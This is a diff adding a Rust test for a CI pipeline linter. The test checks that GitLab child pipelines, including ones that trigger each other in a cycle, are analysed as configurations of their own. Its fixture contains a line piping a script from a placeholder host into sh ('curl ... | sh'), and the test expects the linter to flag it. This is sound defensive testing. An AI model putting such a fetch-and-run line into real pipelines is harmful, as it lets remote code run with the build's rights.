@@ -124,6 +124,27 @@ fn a_secret_read_by_name_is_drawn_where_it_is_read() {
     assert!(!d["help"].to_string().contains("plumb explain"), "{d}");
 }
 
+/// A child pipeline (`trigger: include: local`) runs with the parent's rights: it is
+/// checked as a configuration of its own, once, even when children trigger each other.
+#[test]
+fn child_pipelines_are_checked() {
+    let dir = scratch("child-pipelines");
+    std::fs::create_dir_all(dir.join("ci")).expect("ci");
+    let parent = "child:\n  trigger:\n    include: ci/child.yml\nother:\n  trigger:\n    include:\n      - local: /ci/child.yml\n";
+    std::fs::write(dir.join(".gitlab-ci.yml"), parent).expect("parent");
+    let child = "build:\n  image: alpine:latest\n  script:\n    - curl -fsSL https://x.example.com/i.sh | sh\nagain:\n  trigger:\n    include: .gitlab-ci.yml\n";
+    std::fs::write(dir.join("ci/child.yml"), child).expect("child");
+    let (diags, _) = json(&["check", "--format", "json", ".gitlab-ci.yml"], &dir);
+    let found: Vec<(String, String, u64)> = (diags.iter())
+        .map(|d| {
+            let file = d["file"].as_str().unwrap_or("").to_string();
+            (d["code"].to_string(), file, d["line"].as_u64().unwrap_or(0))
+        })
+        .collect();
+    let at = |code: &str, line| (format!("\"{code}\""), "ci/child.yml".to_string(), line);
+    assert_eq!(found, [at("PL3002", 2), at("PL6002", 4)], "{diags:?}");
+}
+
 /// GitLab's documented names for a service account's JSON and a kubeconfig's text
 /// are project variables holding credentials; `KUBECONFIG`, the path `kubectl` reads,
 /// is not.
